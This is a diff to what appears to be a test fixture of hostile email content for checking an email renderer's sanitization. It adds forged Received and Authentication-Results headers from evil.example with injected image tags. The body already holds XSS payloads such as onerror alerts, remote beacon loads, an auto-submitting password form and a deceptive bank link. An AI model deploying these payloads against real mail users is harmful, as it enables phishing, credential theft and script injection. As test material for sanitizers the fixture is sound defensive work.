@@ -19,7 +19,7 @@ const html = `<html><head>
 <video src="http://${beacon}/video" autoplay></video><audio src="http://${beacon}/audio" autoplay></audio>
 <form action="http://${beacon}/form" id="f"><input name="password"><button autofocus onfocus="this.form.submit()">Pay</button></form>
 <a href="javascript:alert(4)">click here</a> <a href="http://${beacon}/link">https://bank.example/</a>
-<div style="background-image:url(http://${beacon}/inline.png)">hidden</div>${longWord}</body></html>`;
+<div style="background-image:url(http://${beacon}/inline.png)">seen</div><p hidden>un<b onclick="alert(10)">seen</b> words</p>${longWord}</body></html>`;
 
 const plain = `<script>alert(5)</script><img src=x onerror=alert(6)>
 left \u202Ethgir\u202C zero\u200Bwidth bell\u0007 escape\u001b[31mred null\u0000end
@@ -33,6 +33,11 @@ function part(type, text) {
 }
 
 export const hostileMessage = [
+  "Received: from evil.example ([192.0.2.1]) by mx.corp.example with ESMTP; Mon, 30 Nov 2026 01:00:04 +0000",
+  "Authentication-Results: mx.corp.example; spf=fail smtp.mailfrom=evil.example",
+  "Authentication-Results: <img/src=x/onerror=alert(11)>; dkim=pass header.d=bank.example",
+  `Received: from <img/src=http://${beacon}/hop> by evil.example; Mon, 30 Nov 2026 00:59:00 +0000`,
+  "Sender: bulk@evil.example",
   `From: ${encoded('<img src=x onerror=alert(7)>"')} <evil@${beacon}>`,
   `To: ${encoded("<b>you</b>")} <alice@example.org>`,
   `Subject: ${encoded(subject)}`,
